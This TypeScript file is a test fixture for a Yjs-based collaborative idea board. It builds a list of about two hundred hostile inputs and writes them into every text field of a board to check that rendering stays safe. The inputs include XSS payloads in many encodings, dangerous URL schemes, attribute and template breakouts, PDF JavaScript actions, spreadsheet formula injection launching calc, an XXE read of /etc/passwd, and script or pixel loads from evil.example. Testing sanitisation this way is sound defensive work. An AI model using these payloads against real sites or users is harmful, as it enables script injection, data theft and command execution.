import * as Y from 'yjs'
import { addIdea } from '../../shared/commands/addIdea.ts'
import type { ScriptedPerson } from './scriptedPerson.ts'

/** Says that it ran, in every way that a page could notice. */
const RUN = 'window.pwned=1;alert(1)'

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\nscript:',
  'java\tscript:',
  'java\rscript:',
  '\u0000javascript:',
  '\u0001javascript:',
  'javascript\u00ad:',
  'javascript&colon;',
  '&#106;avascript:',
  'javascript&#58;',
  'jav&#x09;ascript:',
  'javascript://%0a',
  'javascript:/**/',
  'feed:javascript:',
  'view-source:javascript:',
  'vbscript:',
  'livescript:',
  'mocha:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'data:image/svg+xml,<svg onload=',
  'DATA:text/html;charset=utf-8,',
  ' data:application/javascript,',
  'blob:https://evil.example/',
  'file:///etc/passwd#',
  'filesystem:http://evil.example/',
  'about:blank#',
  'chrome://settings/',
  'ms-msdt:/id ',
  'search-ms:query=',
  'intent://evil#Intent;',
  '//evil.example/',
  '\\\\evil.example\\share\\',
  '/\\evil.example/',
  'http:evil.example/',
  'https:/evil.example',
  'ht\ntp://evil.example/',
  'x-javascript:',
  'ws://evil.example/',
  'ftp://evil.example/',
  'tel:+491234',
  'sms:+491234',
  'jar:http://evil.example!/',
  'wyciwyg://0/',
  'res://evil/',
  'mhtml:http://evil.example',
]

const elements = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</text></svg><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src=https://evil.example/pixel.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href=data:,${RUN} />`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><foreignObject><iframe src=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/>`,
  `<svg><image href=https://evil.example/pixel.png>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src=https://evil.example></iframe>`,
  `<object data=javascript:${RUN}>`,
  `<object data=https://evil.example/x.swf>`,
  `<embed src=javascript:${RUN}>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=import href=https://evil.example>`,
  `<link rel=prefetch href=https://evil.example/p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/p)}</style>`,
  `<div style="background:url(https://evil.example/p)">`,
  `<div style="width:expression(${RUN})">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<video src=_ onloadstart=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<form action=javascript:${RUN}><input type=submit id=x></form><label for=x>x</label>`,
  `<form><button formaction=javascript:${RUN}>x</button></form>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href=https://evil.example ping=https://evil.example/p>x</a>`,
  `<button onclick=${RUN} popovertarget=x>x</button>`,
  `<x onclick=${RUN}>x</x>`,
  `<x onmouseover=${RUN} style=display:block>x</x>`,
  `<x onfocus=${RUN} tabindex=1 id=x>#x`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<portal src=https://evil.example>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!--#exec cmd="id"-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
]

const breakouts = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" style="background:url(https://evil.example/p)`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `\u2028${RUN}`,
  `\u2029${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `)${RUN}(`,
  `) /JS (app.alert(1)) /S /JavaScript (`,
  `>> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> <<`,
  `endstream endobj 99 0 obj << /S /Launch /F (calc.exe) >>`,
  `(\\)) Tj ET /JavaScript`,
  `url(javascript:${RUN})`,
  `url(https://evil.example/p)`,
  `@import 'https://evil.example'`,
  `__proto__`,
  `constructor`,
  `toString`,
  `\u202egnp.exe`,
  `\u0000`,
  `\ud800`,
  `=cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `javascript:${RUN}`,
]

/** Some two hundred ways in which a word or an address may try to become code, or to call home. */
export const HOSTILE_WORDS: readonly string[] = [
  ...schemes.map((scheme) => `${scheme}${RUN}`),
  ...schemes.map((scheme) => `${scheme}%0a${RUN}//https://example.org`),
  ...elements,
  ...breakouts,
]

/** What may stand in a link. */
export const mayLink = (address: string): boolean => /^(https?:\/\/|mailto:)/i.test(address)

/** Writes every one of them into every place of a board that takes words, past all commands: straight into the document. */
export function writeHostileBoard(person: Pick<ScriptedPerson, 'doc' | 'does'>): void {
  const { doc } = person
  const id = (n: number): string => `hostile${n}`
  const column = (name: string): Y.Map<unknown> => doc.getMap(name)
  HOSTILE_WORDS.forEach((_, n) =>
    person.does(addIdea, {
      id: id(n),
      parent: n % 20 === 0 ? 'root' : id(n - (n % 20)),
      after: null,
      title: `Nr. ${n}`,
    }),
  )
  doc.transact(() => {
    HOSTILE_WORDS.forEach((words, n) => {
      column('title').set(id(n), richText(words, n))
      column('note').set(id(n), richText(words, n))
      for (const field of ['link', 'who', 'nextStep', 'until']) column('fields').set(`${id(n)}/${field}`, words)
      column('kind').set(id(n), n % 3 ? words : 'quickWin')
      if (n > 0) column('links').set(`link${n}`, { from: id(n), to: id(n - 1), label: words })
    })
    column('meta').set('title', `Titel ${HOSTILE_WORDS[100] ?? ''}`)
  })
}

/** A line that is the words themselves, linked to themselves, and one with an element that no editor of ours makes. */
function richText(words: string, n: number): Y.XmlFragment {
  const text = new Y.XmlText()
  text.insert(0, `${words} `)
  text.insert(0, 'hierher', { link: { href: words, target: '_self', onclick: RUN, class: words } })
  text.insert(0, 'fett', { bold: true, 'link--1': { href: words } })
  const paragraph = new Y.XmlElement('paragraph')
  paragraph.setAttribute('onclick', RUN)
  paragraph.setAttribute('style', 'position:fixed;inset:0')
  paragraph.insert(0, [text])
  const strange = new Y.XmlElement(['script', 'img', 'iframe', 'svg', 'a'][n % 5] ?? 'script')
  for (const [name, value] of Object.entries({ src: words, href: words, onerror: RUN, onload: RUN, srcdoc: words }))
    strange.setAttribute(name, value)
  strange.insert(0, [new Y.XmlText(RUN)])
  const fragment = new Y.XmlFragment()
  fragment.insert(0, [paragraph, strange])
  return fragment
}
